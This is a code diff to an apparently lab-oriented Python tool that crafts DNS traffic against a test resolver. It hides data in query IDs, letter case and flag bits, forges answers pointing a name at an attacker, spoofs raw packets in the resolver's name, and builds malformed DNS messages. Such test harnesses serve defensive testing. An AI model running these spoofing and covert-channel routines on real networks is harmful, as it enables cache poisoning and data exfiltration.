@@ -6,7 +6,7 @@ dnswire.py query FORM NONCE [SERVER [tcp]]    the messages of FORMS, one by one,
 dnswire.py pieces NONCE [SERVER]              a query over TCP, the length prefix and the message in segments of a byte
 dnswire.py bits id|case|flags|size NONCE      the nonce's bytes in what surrounds an allowed name
 dnswire.py answer TO PORT NONCE               an answer that binds allowed.test to the attacker, to TO, from port 53 where that is allowed
-dnswire.py stranger NONCE TIMES               the same from the attacker's host, in the resolver's name, to the client's port 5353
+dnswire.py stranger NONCE TIMES [broken]      the same from the attacker's host, in the resolver's name, to the client's port 5353
 dnswire.py seen id|case|flags|size PCAP       the same bytes, as hexadecimal, as a capture at the resolver shows them
 """
 import os
@@ -148,13 +148,12 @@ def pipelined(nonce, server=RESOLVER):
 
 
 def bits(kind, nonce):
-    """Two bytes a query (`flags`, `size`: one) in the id, in the case of letters, in the Z, AD and CD bits, in the size that EDNS
-    offers; the first query has a marker's value."""
+    """A byte a query, in the id's upper half, in the case of letters or in the size that EDNS offers; in AD and CD two bits a query."""
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.connect((RESOLVER, 53))
     sock.settimeout(1)
     word = nonce.encode()
-    for i in range(0, len(word), 1):
+    for i in range(len(word)):
         value, ident, flags, shown, size = word[i], 0x4000 + i, 0x0100, "allowed", 1232
         if kind == "id":
             ident = value << 8 | i
@@ -220,11 +219,20 @@ def answer(to, port, nonce):
     time.sleep(0.1)
 
 
-def stranger(nonce, times):
+def broken():
+    """Two questions, an endless name, a record longer than the message, a header alone, half a header, a name of 300 bytes."""
+    good = forged()
+    head, asked = good[:12], good[12:30]
+    data = struct.pack(">HHIH", A, 1, 60, 4) + socket.inet_aton(EVIL)
+    return [header(0x1234, 0x8180, (2, 1, 0, 0)) + asked + asked + b"\xc0\x0c" + data, head + b"\xc0\x0c\0\1\0\1" + data, head + asked + b"\xc0\x1e" + data,
+            good[:-6] + b"\xff\xff" + good[-4:], head, head[:5], head + b"\x3f" * 300 + data, good[:6] + b"\xff\xff" + good[8:]]  # fmt: skip
+
+
+def stranger(nonce, times, what="good"):
     """Root on the attacker's host writes packets in the resolver's name."""
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for i in range(int(times)):
-        body = forged(i)
+        body = forged(i) if what == "good" else broken()[i]
         udp = struct.pack(">HHHH", 53, 5353, 8 + len(body), 0) + body
         packet = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(udp), i, 0, 64, 17, 0) + socket.inet_aton(RESOLVER) + socket.inet_aton("198.18.1.2")
         sock.sendto(packet + udp, ("198.18.1.2", 0))
